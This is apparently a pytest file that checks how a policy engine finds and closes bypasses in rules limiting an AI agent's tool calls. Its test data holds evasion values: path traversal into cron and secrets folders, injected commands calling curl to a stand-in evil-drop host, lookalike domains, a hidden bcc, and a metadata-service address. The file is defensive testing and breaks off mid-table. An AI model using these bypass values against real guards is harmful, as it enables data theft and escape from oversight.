"""Calls that pass a rule by the letter: each is allowed as it is shown, and stopped once it is not meant."""

from __future__ import annotations

import json
from collections.abc import Sequence
from contextlib import closing
from pathlib import Path

import pytest

from tests.app.invoice_desk import invoice_desk
from tests.clarify.written.one_rule import book_of, one_rule
from workbench.app.answered_rules import with_effect
from workbench.app.new_session import new_session
from workbench.app.rewording import Reworded
from workbench.app.session_language import language_of
from workbench.app.workbench import Workbench
from workbench.clarify.written import Asked, Book
from workbench.clarify.written.asked import MEANT, Calls, TriedCall
from workbench.clarify.written.attacked import attacked_by, kind_of_field
from workbench.clarify.written.holes import HolesByRule
from workbench.clarify.written.witnesses import CLOSED, witnesses
from workbench.dialect.call_fields import CallField
from workbench.dialect.lowered_policy import lowered_policy
from workbench.engines.compiled.compile import compile_policy
from workbench.model import (
    AgentSpec,
    ArgumentType,
    Json,
    Kind,
    Question,
    RecordedCall,
    Requirement,
    Span,
    Verdict,
)
from workbench.runs.extract.extractor import Extractor
from workbench.runs.replay.decide import decision_on
from workbench.runs.world.earlier_calls import Earlier
from workbench.session.agent_file import read_agent

AGENT = read_agent("""
name = "desk"

[tools.act]
[tools.act.parameters]
type = "object"
required = ["file_path", "command", "link", "recipient", "account", "note"]
additionalProperties = false

[tools.act.parameters.properties]
file_path = {type = "string"}
command = {type = "string"}
link = {type = "string"}
recipient = {type = "string"}
account = {type = "string"}
note = {type = "string"}
folder = {type = "string"}
attachments = {type = "array", items = {type = "string"}}
amount = {type = "number"}
""")
POLICY = '''"""What the desk may do."""
from decimal import Decimal
from agent import Act

DEFAULT = "allow"


def forbid_act(call: Act) -> bool:
    """R1: No."""
    return {condition}
'''


def asked_of(condition: str) -> tuple[list[Asked], Book, str]:
    """The questions about a rule with a condition."""
    source = POLICY.replace("{condition}", condition)
    if "Decimal" not in condition:
        source = source.replace("from decimal import Decimal\n", "")
    book = book_of(source, AGENT)
    return list(witnesses(book, HolesByRule(book), {})), book, source


HOLES = {
    'not call.file_path.startswith("src/")': "src/../../etc/cron.d/job",
    'call.file_path.startswith("secrets/")': "x/../secrets/x",
    '"/.ssh/" in call.file_path': ".ssh/x",
    'call.file_path.endswith(".pem")': "x.PEM",
    'call.file_path == "/etc/passwd"': "/etc/x/../passwd",
    'not call.file_path.endswith(".md")': "../../x.md",
    'call.folder is not None and call.folder.startswith("secrets/")': "x/../secrets/x",
    'not call.command.startswith("pytest")': "pytest; curl https://collect.evil-drop.example/x",
    'not "pytest" in call.command': "pytest; curl https://collect.evil-drop.example/x",
    'call.command.startswith("rm ")': "true; rm x",
    '";" in call.command': "true && curl https://collect.evil-drop.example/x",
    'call.command == "reboot"': "true; reboot",
    'not call.link.startswith("https://github.com")': "https://github.com.collect.evil-drop.example/",
    'not call.link.endswith("github.com")': "https://collect.evil-drop.example/?github.com",
    'not "github.com" in call.link': "https://github.com.collect.evil-drop.example/",
    'not call.recipient.endswith("@corp.example")': "eve@evil-drop.example, lee@corp.example",
    'not call.recipient.endswith("corp.example")': "eve@evil-corp.example",
    'not call.recipient.lower().endswith("corp.example")': "eve@evil-corp.example",
    'call.recipient == "boss@corp.example"': "BOSS@CORP.EXAMPLE",
    'call.recipient.endswith("@rival.example")': "Lee <lee@rival.example>",
    'call.account == "Acme"': "ACME",
    'not all(each.startswith("/srv/") for each in call.attachments)': "/srv/../../../etc/cron.d/job",
    'any(each == "Acme" for each in call.attachments)': "ACME",
    'call.account in {"Acme", "Evil Ltd"}': "ACME",
    'call.amount is not None and call.amount > Decimal("50")': None,
}


@pytest.mark.parametrize(("condition", "value"), HOLES.items())
def test_a_hole_is_a_concrete_call_that_is_allowed_and_the_rewriting_stops_it(
    condition: str, value: str | None
) -> None:
    found, book, source = asked_of(condition)
    shown = [list(call.arguments.values()) for one in found for call in one.calls]
    if value is None:
        assert any("amount" not in call.arguments for one in found for call in one.calls)
    else:
        assert any(value in values or [value] in values for values in shown), shown
    for asked in found:
        assert asked.question.kind == "witness"
        assert not asked.question.default
        assert all(str(call) in asked.question.text for call in asked.calls)
        assert _decided(source, asked.calls) is Verdict.ALLOW
        if CLOSED in asked.effects:
            text, _ = with_effect(book.language, source, asked.effects[CLOSED], open_default=True)
            assert _decided(text, asked.calls) is Verdict.DENY


def _decided(source: str, calls: Calls, agent: AgentSpec = AGENT) -> Verdict:
    """What a policy decides on the last of some recorded calls; denied if it is on one before."""
    lowered = lowered_policy(source, agent)
    policy, extractor = compile_policy(lowered.terms), Extractor(lowered.arguments, agent)
    run = [
        RecordedCall("r", number, one.tool, one.arguments, result="{}", ran=True, known_from=number + 1)
        for number, one in enumerate(calls)
    ]
    verdicts = [
        decision_on(policy, extractor.extract(one, Earlier(tuple(run), number))).verdict
        for number, one in enumerate(run)
    ]
    return next((one for one in verdicts if one is not Verdict.ALLOW), Verdict.ALLOW)


TOOLS = read_agent("""
name = "office"

[tools.delete_file]
parameters = {type = "object", required = ["path"], properties = {path = {type = "string"}}}
fields = {path = {type = "path"}}
[tools.write_file]
parameters = {type = "object", required = ["path"], properties = {path = {type = "string"}}}
fields = {path = {type = "path"}}
[tools.move_file]
fields = {source = {type = "path"}, destination = {type = "path"}}
[tools.move_file.parameters]
type = "object"
required = ["source", "destination"]
properties = {source = {type = "string"}, destination = {type = "string"}}
[tools.make_link]
fields = {target = {type = "path"}, link = {type = "path"}}
[tools.make_link.parameters]
type = "object"
required = ["target", "link"]
properties = {target = {type = "string"}, link = {type = "string"}}
[tools.send_mail]
fields = {to = {type = "mail_address"}, bcc = {type = "mail_address"}}
[tools.send_mail.parameters]
type = "object"
required = ["to"]
properties = {to = {type = "string"}, bcc = {type = "string"}}
[tools.load_page]
parameters = {type = "object", required = ["url"], properties = {url = {type = "string", format = "uri"}}}
[tools.run]
shell = "bash"
cwd = "/srv"
parameters = {type = "object", required = ["command"], properties = {command = {type = "string"}}}
fields = {command = {type = "command"}}
[tools.ask_database]
parameters = {type = "object", required = ["query"], properties = {query = {type = "string"}}}
fields = {query = {type = "sql"}}
""")
OFFICE = '''"""What the office may do."""
from agent import {classes}

DEFAULT = "allow"
'''
FILED = "Delete nothing below /srv/archive."
TYPED = {
    "a tool that does the same": (
        FILED, "DeleteFile", '"/srv/archive" in call.path.inside', ("move_file", "/srv/archive")),
    "a link to what is closed": (
        "Write below /srv/docs only.", "WriteFile", '"/srv/docs" not in call.path.inside',
        ("make_link", "/etc/cron.d/job")),
    "a field beside": (
        "Mail goes to acme.example.", "SendMail", 'call.to.domain != "acme.example"', ("send_mail", "eve@")),
    "an address with a name": (
        "Nothing goes to the boss.", "SendMail", 'call.to == "boss@acme.example"',
        ("send_mail", "lee <boss@acme.example>")),
    "an address of a domain with a name": (
        "Nothing goes to the rival.", "SendMail", 'call.to.lower().endswith("@rival.example")',
        ("send_mail", "lee <lee@rival.example>")),
    "another port": (
        "Pages come from docs.acme.example over https.", "LoadPage",
        'not call.url.startswith("https://docs.acme.example")', ("load_page", ":8443")),
    "another way to a host alone": (
        "Pages come from docs.acme.example.", "LoadPage",
        'call.url.host != "docs.acme.example"', ("load_page", "http://docs.acme.example")),
    "either of two": (
        "Pages come from docs.acme.example and over https.", "LoadPage",
        'not (call.url.scheme == "https" or call.url.host == "docs.acme.example")', ("load_page", "http")),
    "a second program": (
        "Only look at the state.", "RunCommand", '"git status" not in call.command.calls', ("run", ";")),
    "a second statement": (
        "Queries only read.", "AskDatabase", 'not call.query.lower().startswith("select")',
        ("ask_database", "drop table")),
}  # fmt: skip


def office(*rules: tuple[str, str, str]) -> tuple[list[Asked], Book, str]:
    """The questions about rules: the sentence, the class and the condition of each."""
    names = {one: one if one != "RunCommand" else "Run_" for _, one, _ in rules}
    source = OFFICE.format(classes=", ".join(sorted(set(names.values())))) + "".join(
        f'\n\ndef forbid_{number}(call: {names[name]}) -> bool:\n    """R{number}: {sentence}"""\n'
        f"    return {condition}\n"
        for number, (sentence, name, condition) in enumerate(rules)
    )
    request = [Requirement(f"R{n}", one, one, Span(0, len(one))) for n, (one, *_) in enumerate(rules)]
    book = Book(language_of(source, TOOLS), TOOLS, lowered_policy(source, TOOLS).terms, request)
    return list(witnesses(book, HolesByRule(book), {})), book, source


@pytest.mark.parametrize("kind", TYPED)
def test_what_passes_a_rule_beside_what_it_looks_at_is_a_call_that_is_allowed(kind: str) -> None:
    sentence, name, condition, (tool, value) = TYPED[kind]
    found, book, source = office((sentence, name, condition))
    shown = [
        asked for asked in found if any(c.tool == tool and value in repr(c).lower() for c in asked.calls)
    ]

    assert shown, [asked.question.text for asked in found]
    assert not any("one of two conditions" in asked.question.text for asked in found)
    for asked in found:
        assert _decided(source, asked.calls, TOOLS) is Verdict.ALLOW
        if CLOSED in asked.effects:
            text, _ = with_effect(book.language, source, asked.effects[CLOSED], open_default=True)
            assert _decided(text, asked.calls, TOOLS) is not Verdict.ALLOW


OTHERS = read_agent("""
name = "others"

[tools.read_file]
parameters = {type = "object", required = ["path"], properties = {path = {type = "string"}}}
fields = {path = {type = "path"}}
[tools.fetch_page]
parameters = {type = "object", required = ["url"], properties = {url = {type = "string", format = "uri"}}}
[tools.download]
parameters = {type = "object", required = ["url"], properties = {url = {type = "string", format = "uri"}}}
[tools.send_mail]
fields = {"to[]" = {type = "mail_address"}, "cc[]" = {type = "mail_address"}, to = {optional = true}}
[tools.send_mail.parameters]
type = "object"
required = ["to"]
[tools.send_mail.parameters.properties]
to = {type = "array", items = {type = "string"}}
cc = {type = "array", items = {type = "string"}}
[tools.forward_mail]
fields = {"to[]" = {type = "mail_address"}, to = {optional = true}}
[tools.forward_mail.parameters]
type = "object"
required = ["to"]
properties = {to = {type = "array", items = {type = "string"}}}
[tools.close_ticket]
parameters = {type = "object", required = ["ticket_id"], properties = {ticket_id = {type = "string"}}}
[tools.set_status]
[tools.set_status.parameters]
type = "object"
required = ["ticket_id", "status"]
properties = {ticket_id = {type = "string"}, status = {enum = ["open", "closed"]}}
[tools.query]
parameters = {type = "object", required = ["query"], properties = {query = {type = "string"}}}
fields = {query = {type = "sql"}}
[tools.export_table]
parameters = {type = "object", required = ["table"], properties = {table = {type = "string"}}}
""")
ELSEWHERE = {
    "a folder below": ("ReadFile", 'call.path.folder == "/app/secrets"', ("read_file", "/app/secrets/below")),
    "a way without encryption": ("FetchPage", 'call.url.startswith("http://")', ("fetch_page", "ftp:")),
    "a tool that loads": ("FetchPage", 'call.url.host != "acme.example"', ("download", "evil-drop")),
    "a tool with a list": (
        "SendMail", 'not all(each.domain == "acme.example" for each in call.to)', ("forward_mail", "eve@")),
    "a second list": (
        "SendMail", 'not all(a.domain == "acme.example" for a in call.to)', ("send_mail", "'cc': ['eve@")),
    "a list that is not counted": ("SendMail", "len(call.to) > 5", ("send_mail", "'cc': ['lee0@")),
    "a tool with one of two lists": (
        "SendMail",
        'any(a.domain == "rival.example" for a in call.to)'
        ' or any(a.domain == "rival.example" for a in call.cc)',
        ("forward_mail", "lee@rival.example"),
    ),
    "a tool that loads from addresses": ("FetchPage", "call.url.is_address", ("download", "203.0.113.9")),
    "a state": ("CloseTicket", 'call.ticket_id == "T1"', ("set_status", "'t1', 'status': 'closed'")),
    "a table spelled otherwise": ("Query", '"credentials" in call.query', ("query", "from credentials")),
    "a tool with the table": ("Query", '"salaries" in call.query.reads', ("export_table", "salaries")),
}  # fmt: skip
SPARED = {
    "options in any order": ('"rm -rf" in call.command', "rm  -rf x", ("rm -f -r x", "rm x")),
    "another program for folders": ('"rm -r" in call.command', "find /srv/data -delete", ("", "rm x")),
}
"""A condition on a command, a call that passes it, and what its rewriting stops and spares."""


@pytest.mark.parametrize("kind", SPARED)
def test_a_rewriting_about_options_stops_them_in_any_spelling_and_spares_the_program(kind: str) -> None:
    condition, passing, (stopped, spared) = SPARED[kind]
    found, book, source = office(("rm must never be run on folders.", "RunCommand", condition))
    (asked,) = [one for one in found if one.calls == (TriedCall("run", {"command": passing}),)]
    text, _ = with_effect(book.language, source, asked.effects[CLOSED], open_default=True)

    for command, verdict in ((passing, Verdict.DENY), (stopped, Verdict.DENY), (spared, Verdict.ALLOW)):
        if command:
            assert _decided(text, (TriedCall("run", {"command": command}),), TOOLS) is verdict, command


WITHOUT_HOLE = (
    ("ReadFile", '"/app/secrets" in call.path.inside'),
    ("FetchPage", 'call.url.scheme != "https"'),
    (
        "Query",
        "any(one == 'credentials' or one.endswith('.credentials') for one in call.query.reads)"
        " or any(one == 'credentials' or one.endswith('.credentials') for one in call.query.writes)",
    ),
)


def asked_of_others(name: str, condition: str) -> tuple[list[Asked], Book, str]:
    """The questions about one rule of the tools with others beside them."""
    book = one_rule(OTHERS, name, condition)
    return list(witnesses(book, HolesByRule(book), {})), book, book.language.source


@pytest.mark.parametrize("kind", ELSEWHERE)
def test_what_another_tool_or_list_does_is_asked_about_and_its_rewriting_stops_it(kind: str) -> None:
    name, condition, (tool, value) = ELSEWHERE[kind]
    found, book, source = asked_of_others(name, condition)
    shown = [
        asked for asked in found if any(c.tool == tool and value in repr(c).lower() for c in asked.calls)
    ]

    assert shown, [asked.question.text for asked in found]
    for asked in shown:
        assert _decided(source, asked.calls, OTHERS) is Verdict.ALLOW
        text, _ = with_effect(book.language, source, asked.effects[CLOSED], open_default=True)
        assert _decided(text, asked.calls, OTHERS) is Verdict.DENY


@pytest.mark.parametrize(("name", "condition"), WITHOUT_HOLE)
def test_a_rule_by_typed_parts_is_not_asked_about_for_its_own_tool(name: str, condition: str) -> None:
    found, _, _ = asked_of_others(name, condition)
    tool = {"ReadFile": "read_file", "FetchPage": "fetch_page", "Query": "query"}[name]

    assert not [asked for asked in found if asked.calls[-1].tool == tool], found[0].question.text


def test_a_rule_about_another_field_of_a_tool_silences_nothing() -> None:
    archive = (FILED, "DeleteFile", '"/srv/archive" in call.path.inside')
    beside = ("Move into /srv/docs only.", "MoveFile", '"/srv/docs" not in call.destination.inside')
    same = ("Take nothing away.", "MoveFile", '"/srv/archive" in call.source_.inside')

    def takes_away(*rules: tuple[str, str, str]) -> bool:
        return any("takes it away too" in asked.question.text for asked in office(*rules)[0])

    assert takes_away(archive) and takes_away(archive, beside)
    assert not takes_away(archive, same)


@pytest.mark.parametrize(
    "condition",
    [
        'not (call.url.scheme == "https" and call.url.host == "docs.acme.example")',
        'not call.url.startswith("https://docs.acme.example")',
        'not call.url.startswith("https://docs.acme.example:")',
        'call.url.host != "docs.acme.example" or call.url.port != 443',
        'call.url.host != "docs.acme.example"',
    ],
)
def test_a_rewriting_for_a_host_lets_no_way_to_it_through_that_is_stopped(condition: str) -> None:
    found, book, source = office(("Pages come from docs.acme.example.", "LoadPage", condition))
    ways = [
        TriedCall("load_page", {"url": url})
        for scheme in ("https", "http", "ftp")
        for url in (f"{scheme}://docs.acme.example/a", f"{scheme}://docs.acme.example:8443/a")
    ]
    for asked in found:
        if CLOSED in asked.effects:
            text, _ = with_effect(book.language, source, asked.effects[CLOSED], open_default=True)
            for way in ways[1:]:
                if _decided(source, (way,), TOOLS) is not Verdict.ALLOW:
                    assert _decided(text, (way,), TOOLS) is not Verdict.ALLOW, (way, text)


@pytest.mark.parametrize(
    "condition",
    [
        'call.note == "x"  or call.note != "x"',
        "len(call.note) > 3",
        'call.amount is None or call.amount <= Decimal("50")',
        'call.account.strip().lower() == "acme"',
        'not call.link.startswith("https://github.com/")',
    ],
)
def test_what_has_no_hole_of_these_kinds_is_not_asked_about(condition: str) -> None:
    found, _, _ = asked_of(condition)
    assert not found, found[0].question.text


def test_an_open_witness_is_asked_and_its_answer_closes_it(tmp_path: Path) -> None:
    bench = invoice_desk(tmp_path, "Suppliers on the list get nothing.\n")
    with closing(bench):
        words = "Suppliers on the list get nothing."
        said = "The agent must not pay an invoice if the supplier is “Acme”."
        bench.rewordings.keep([Reworded(words, ("The agent may always pay an invoice.", said))])
        (question,) = [one for one in bench.questions.understand().open if one.kind == "witness"]
        assert "the supplier" in question.text
        assert question.shown["call.supplier"] == "ACME"
        bench.questions.answer(question, CLOSED)
        assert 'call.supplier.strip().lower() == "acme"' in bench.session.written
        assert not [one for one in bench.questions.understand().open if one.kind == "witness"]
        assert not [one for one in bench.in_force.understand().questions if one.id == question.id]


SECRET = "No file takes the place of the secrets."
MOVED = tuple(
    f"The agent must not move a file if the {one} is “/repo/.env”." for one in ("source", "destination")
)


_PATHS = {"source": {"type": "string"}, "destination": {"type": "string"}}


def moving_desk(folder: Path, *said: str) -> Workbench:
    """A session of a tool with two paths, of which one sentence says two rules."""
    files = {"type": "object", "properties": _PATHS}
    tool = {"name": "move_file", "description": "Moves a file.", "inputSchema": files}
    (folder / "tools.json").write_text(json.dumps([tool]), encoding="utf-8")
    (folder / "request.md").write_text(f"The agent works in /repo. {SECRET}\n", encoding="utf-8")
    made = new_session(
        folder / "desk", folder / "request.md", agent=folder / "tools.json", logs=[], author="written"
    )
    made.draft()
    made.workbench.rewordings.keep([Reworded(SECRET, ("The agent may always move a file.", *said))])
    return made.workbench


def open_holes(bench: Workbench) -> list[Question]:
    return [one for one in bench.questions.understand().open if one.kind == "witness"]


@pytest.mark.parametrize("first", [0, 1])
def test_each_of_two_rules_of_a_sentence_has_answers_of_its_own(tmp_path: Path, first: int) -> None:
    with closing(moving_desk(tmp_path, *MOVED)) as bench:
        answered: list[str] = []
        while found := [one for one in open_holes(bench) if one.options[0].value == CLOSED]:
            question = found[min(first, len(found) - 1)]
            bench.questions.answer(question, CLOSED)
            answered.append(question.id)
            assert all(one.in_force for one in bench.in_force.owed() if one.name in answered)
        assert len(set(answered)) == len(answered) > 1


def test_that_a_call_is_meant_says_nothing_of_another_rule_of_its_sentence(tmp_path: Path) -> None:
    """The rule before it lets no such call through, until it is edited."""
    with closing(
        moving_desk(tmp_path, MOVED[0].replace("the source is", "the source is not"), MOVED[1])
    ) as bench:
        while found := open_holes(bench):
            bench.questions.answer(found[0], MEANT)
        text = bench.session.written
        bench.session.set_text(
            "policy.py", text.replace('call.source_ != "/repo/.env"', 'call.source_ == "/repo/.env"')
        )
        assert bench.session.written != text
        texts = [one.text for one in open_holes(bench)]
        assert [text for text in texts if "if the source" in text and "holds secrets" in text]


def test_a_meant_witness_stays_answered_and_the_next_is_asked(tmp_path: Path) -> None:
    bench = invoice_desk(tmp_path, "Suppliers on the list get nothing.\n")
    with closing(bench):
        words = "Suppliers on the list get nothing."
        said = "The agent must not pay an invoice if the supplier is “Acme”."
        bench.rewordings.keep([Reworded(words, ("The agent may always pay an invoice.", said))])
        texts: list[str] = []
        while found := [one for one in bench.questions.understand().open if one.kind == "witness"]:
            texts.append(found[0].text)
            bench.questions.answer(found[0], MEANT)
        assert [("in case alone" in text, "after a blank" in text) for text in texts] == [
            (True, False), (False, True),
        ]  # fmt: skip


BOUNDED = read_agent("""
name = "till"

[tools.pay]
[tools.pay.parameters]
type = "object"
required = ["account", "amount"]
additionalProperties = false

[tools.pay.parameters.properties]
account = {type = "string"}
amount = {type = "number"}
tip = {type = "number"}
minutes = {type = "integer"}
""")

WIDER = {
    'call.amount > Decimal("50")': ("forbid", {"tip", "amount"}),
    'call.amount >= Decimal("50") and call.account != "own"': ("forbid", {"tip", "amount"}),
    'call.amount > Decimal("40")': ("ask", {"tip", "amount"}),
    'call.amount <= Decimal("50")': ("permit", {"tip", "amount"}),
    'call.tip is not None and call.amount + call.tip > Decimal("50") or call.amount > Decimal("50")': (
        "forbid", {"amount"},
    ),
    'call.amount > Decimal("50") or any(not c.failed for c in run.earlier(Pay))': ("forbid", {"tip"}),
    "call.minutes is not None and call.minutes > 50": ("forbid", set[str]()),
    'call.amount < Decimal("50")': ("forbid", set[str]()),
}  # fmt: skip


def till(condition: str, form: str) -> tuple[Book, str]:
    book = one_rule(BOUNDED, "Pay", condition, form=form)
    return book, book.language.source


def test_an_amount_that_comes_on_top_is_bounded_with_the_amount() -> None:
    book, source = till('call.amount > Decimal("50")', "forbid")
    found = witnesses(book, HolesByRule(book), {})
    (asked,) = [one for one in found if "tip" in one.calls[-1].arguments]
    text, _ = with_effect(book.language, source, asked.effects[CLOSED], open_default=True)

    for tip, verdict in ((4, Verdict.DENY), (3, Verdict.ALLOW)):
        call = TriedCall("pay", {"account": "a", "amount": 47, "tip": tip})
        assert _decided(source, (call,), BOUNDED) is Verdict.ALLOW
        assert _decided(text, (call,), BOUNDED) is verdict


@pytest.mark.parametrize(("condition", "expected"), WIDER.items())
def test_another_amount_and_a_second_call_pass_a_bound(
    condition: str, expected: tuple[str, set[str]]
) -> None:
    """Each is let through as it is shown, and stopped by the wider bound."""
    form, fields = expected
    book, source = till(condition, form)
    every = HolesByRule(book).of(book.rules[0])
    found = [one for one in every if one.kind.startswith("amount ") or one.kind == "several calls"]
    assert {one.attempt.about or one.kind.removeprefix("amount ") for one in found} == fields
    for one in found:
        assert one.closing is not None
        text, _ = with_effect(book.language, source, one.closing.effect, open_default=form != "permit")
        assert _decided(source, one.shown.calls, BOUNDED) is Verdict.ALLOW
        assert _decided(text, one.shown.calls, BOUNDED) is not Verdict.ALLOW


def test_rules_of_one_form_are_asked_about_once_and_the_answer_closes_each() -> None:
    names = ("Acme", "Evil", "Globex")
    rules = [(f"Pay {name} little.", "DeleteFile", f'call.path == "/srv/{name}"') for name in names]
    found, book, source = office(*rules)
    spelled = [asked for asked in found if asked.question.text.count("of the same form")]

    assert len(spelled) == len(found) == 3  # another spelling, another tool, and a command
    assert all(asked.about == ("forbid_0", "forbid_1", "forbid_2") for asked in found)
    for asked in found:
        text, _ = with_effect(book.language, source, asked.effects[CLOSED], open_default=True)
        for name in names:
            call = next(one for one in asked.calls)
            same = {key: str(value).replace("Acme", name) for key, value in call.arguments.items()}
            assert _decided(source, (TriedCall(call.tool, same),), TOOLS) is Verdict.ALLOW
            assert _decided(text, (TriedCall(call.tool, same),), TOOLS) is Verdict.DENY


BESIDE = {
    "a tool with the same parameter": (
        "Goods go to the depot.", "Ship", 'call.address != "Depot"', ("reroute", "other")),
    "a value that is missing, for whom another condition holds": (
        "Morphine is given for 7 days at most.", "Give",
        'call.drug == "morphine" and call.days is not None and call.days > 7', ("give", "morphine")),
    "both of two limits, of which one names values with “or”": (
        "Only small or medium machines are started, and at most 3.", "Start",
        'call.size not in {"small", "medium"} and call.pieces > 3', ("start", "small")),
    "a text that is given and says nothing": (
        "Every pallet shipped has a reason.", "Ship", "call.reason is None", ("ship", "'reason': ''")),
    "the same article twice": (
        "At most 20 pieces of an article are taken.", "Take", "call.pieces > 20", ("take", "18")),
}  # fmt: skip
_PARAMETERS = {
    "ship": ("pallet", "address"), "reroute": ("route", "address"), "give": ("drug",),
    "start": ("size", "pieces"), "take": ("article", "pieces"),
}  # fmt: skip
_NUMBER = {"pieces", "days"}
WAREHOUSE = read_agent(
    'name = "warehouse"\n'
    + "".join(
        f"[tools.{tool}.parameters]\ntype = 'object'\nrequired = {[*names]}\n"
        f"[tools.{tool}.parameters.properties]\n"
        + "".join(
            f"{name} = {{type = '{'integer' if name in _NUMBER else 'string'}'}}\n"
            for name in (*names, *{"give": ["days"], "ship": ["reason"]}.get(tool, []))
        )
        for tool, names in _PARAMETERS.items()
    )
)


@pytest.mark.parametrize("kind", BESIDE)
def test_what_a_rule_forgets_is_shown_and_closed_without_what_is_harmless(kind: str) -> None:
    sentence, name, condition, (tool, value) = BESIDE[kind]
    book = one_rule(WAREHOUSE, name, condition, sentence)
    found = [one for one in witnesses(book, HolesByRule(book), {}) if CLOSED in one.effects]
    shown = [one for one in found if one.calls[0].tool == tool and value in repr(one.calls)]

    assert shown, [one.question.text for one in found]
    for asked in shown:
        text, _ = with_effect(book.language, book.language.source, asked.effects[CLOSED], open_default=True)
        assert _decided(text, asked.calls, WAREHOUSE) is not Verdict.ALLOW
        if tool == "take":
            articles = tuple(TriedCall("take", {"article": one, "pieces": 18}) for one in "AB")
            assert _decided(text, articles, WAREHOUSE) is Verdict.ALLOW


WARD = read_agent(
    """name = "ward"
    [tools.give.parameters]
    type = "object"
    required = ["drug", "dose", "unit"]
    [tools.give.parameters.properties]
    drug = {type = "string"}
    dose = {type = "number"}
    unit = {type = "string", enum = ["mg", "g", "ml"]}
    """
)


def test_an_amount_in_another_unit_passes_a_bound_in_one_and_is_closed_by_what_it_comes_to() -> None:
    condition = 'call.drug == "paracetamol" and call.unit == "mg" and call.dose > 1000'
    book = one_rule(WARD, "Give", condition, "No single dose of paracetamol is above 1000 mg.")
    (asked,) = [one for one in witnesses(book, HolesByRule(book), {}) if "in mg alone" in one.question.text]
    text, _ = with_effect(book.language, book.language.source, asked.effects[CLOSED], open_default=True)
    for unit, dose, is_closed in (("g", 2, True), ("g", 1, False), ("ml", 2000, False), ("mg", 1001, True)):
        call = TriedCall("give", {"drug": "paracetamol", "dose": dose, "unit": unit})
        assert (_decided(text, (call,), WARD) is not Verdict.ALLOW) is is_closed


def kinds_of_give(sentence: str, condition: str, drugs: Sequence[dict[str, Json]] = ()) -> set[str]:
    """The kinds of holes in a rule about giving drugs, beside logged calls."""
    logged = [RecordedCall("log", n, "give", one, result="{}") for n, one in enumerate(drugs)]
    book = one_rule(WAREHOUSE, "Give", condition, sentence, logged=logged)
    return {one.attempt.kind for one in HolesByRule(book).of(book.rules[0])}


@pytest.mark.parametrize(
    ("lacking", "given", "is_hole"),
    [("morphine", "saline", False), ("saline", "morphine", True)],
)
def test_what_most_logged_calls_leave_out_is_no_hole(lacking: str, given: str, is_hole: bool) -> None:
    """One logged call that gets past the rule silences nothing."""
    sentence, _, condition, _ = BESIDE["a value that is missing, for whom another condition holds"]
    most: list[dict[str, Json]] = [{"drug": lacking}, {"drug": lacking}, {"drug": given, "days": 2}]
    few: list[dict[str, Json]] = [{"drug": "morphine"}, {"drug": "morphine", "days": 2}, {"drug": "saline"}]
    assert ("no days" in kinds_of_give(sentence, condition, most)) is is_hole
    assert "no days" in kinds_of_give(sentence, condition, few)


def test_a_value_that_is_demanded_in_one_case_is_no_second_way() -> None:
    condition = 'call.drug != "saline" and (call.days is None or call.days > 7)'
    found = kinds_of_give("Other drugs than saline are given with their days, at most 7.", condition)
    assert "either of two conditions" not in found


def test_calls_are_decided_as_a_guard_does() -> None:
    """Each try of each kind, whether it passes or not."""
    for sentence, name, condition, _ in TYPED.values():
        _, book, source = office((sentence, name, condition))
        for one in attacked_by(book, book.rules[0]):
            for call in (
                *one.made,
                *(one.with_value(one.base, field, "x; rm y") for field in one.fields_read),
            ):
                is_allowed = _decided(source, (call,), TOOLS) is Verdict.ALLOW
                assert one.trials.allows((call,)) is one.trials.confirms((call,)) is is_allowed


PRESS = read_agent("""
name = "press"

[tools.post.parameters]
type = "object"
required = ["body"]
properties = {body = {type = "string"}, audience = {type = "string", description = "everyone if left out"}}
[tools.list_files]
cwd = "/srv"
fields = {folder = {type = "path"}}
[tools.list_files.parameters]
type = "object"
required = ["pattern"]
properties = {pattern = {type = "string"}, folder = {type = "string"}}
[tools.send_file]
cwd = "/srv"
description = "Sends a file."
fields = {path = {type = "path"}, to = {type = "mail_address"}}
[tools.send_file.parameters]
type = "object"
required = ["path", "to"]
properties = {path = {type = "string"}, to = {type = "string"}, bcc = {type = "string"}}
[tools.expose]
description = "Let another person see a document"
[tools.expose.parameters]
type = "object"
required = ["item", "who"]
properties = {item = {type = "string"}, who = {type = "string"}}
[tools.pin_entry]
description = "Make an entry that stands for another one"
[tools.pin_entry.parameters]
type = "object"
required = ["here", "there"]
properties = {here = {type = "string"}, there = {type = "string"}}
[tools.load]
parameters = {type = "object", required = ["url"], properties = {url = {type = "string", format = "uri"}}}
[tools.label.parameters]
type = "object"
required = ["tags"]
properties = {tags = {type = "array", items = {type = "string"}}}
[tools.extend_loan.parameters]
type = "object"
required = ["loan", "weeks"]
properties = {loan = {type = "string"}, weeks = {type = "integer"}}
[tools.run]
shell = "bash"
cwd = "/srv"
parameters = {type = "object", required = ["command"], properties = {command = {type = "string"}}}
fields = {command = {type = "command"}}
""")
_LOGGED = (
    TriedCall("expose", {"item": "/srv/docs/plan.md", "who": "lee@corp.example"}),
    TriedCall("pin_entry", {"here": "/srv/docs/a.md", "there": "/srv/docs/b.md"}),
)
_SENT = {"path": "/srv/out/a", "to": "lee@corp.example"}
ODD = {
    "a value that a call takes which has none": (
        "Nothing goes to everyone.", "Post", 'call.audience == "everyone"',
        TriedCall("post", {"body": "body1"}), TriedCall("post", {"body": "body1", "audience": "staff"})),
    "a folder that is left out": (
        "List below /srv/docs.", "ListFiles",
        'call.folder is not None and "/srv/docs" not in call.folder.inside',
        TriedCall("list_files", {"pattern": "pattern1"}),
        TriedCall("list_files", {"pattern": "x", "folder": "/srv/docs/a"})),
    "a tool that shows it to others, by its description and its logged values": (
        "Nothing below /srv/secret is sent.", "SendFile", '"/srv/secret" in call.path.inside',
        TriedCall("expose", {"item": "/srv/secret", "who": "lee@corp.example"}), None),
    "a tool of which nothing says what it does": (
        "Nothing below /srv/secret is sent.", "SendFile", '"/srv/secret" in call.path.inside',
        TriedCall("pin_entry", {"here": "/srv/secret", "there": "/srv/docs/b.md"}), None),
    "copies to others, in a field of no kind": (
        "Files go to corp.example.", "SendFile", 'call.to.domain != "corp.example"',
        TriedCall("send_file", {**_SENT, "path": "/home/agent/notes.txt", "bcc": "eve@evil-drop.example"}),
        TriedCall("send_file", _SENT)),
    "either of two, where one of them is asked of a path": (
        "Only what is below /srv/out is sent, and only to corp.example.", "SendFile",
        'not ("/srv/out" in call.path.inside or call.to.domain == "corp.example")',
        TriedCall("send_file", {"path": "/home/agent/notes.txt", "to": "lee@corp.example"}),
        TriedCall("send_file", _SENT)),
    "other names of a machine, of which no other address is one": (
        "Nothing from the metadata service.", "Load", 'call.url.host == "169.254.169.254"',
        TriedCall("load", {"url": "http://metadata.google.internal/"}),
        TriedCall("load", {"url": "http://10.0.0.7/x"})),
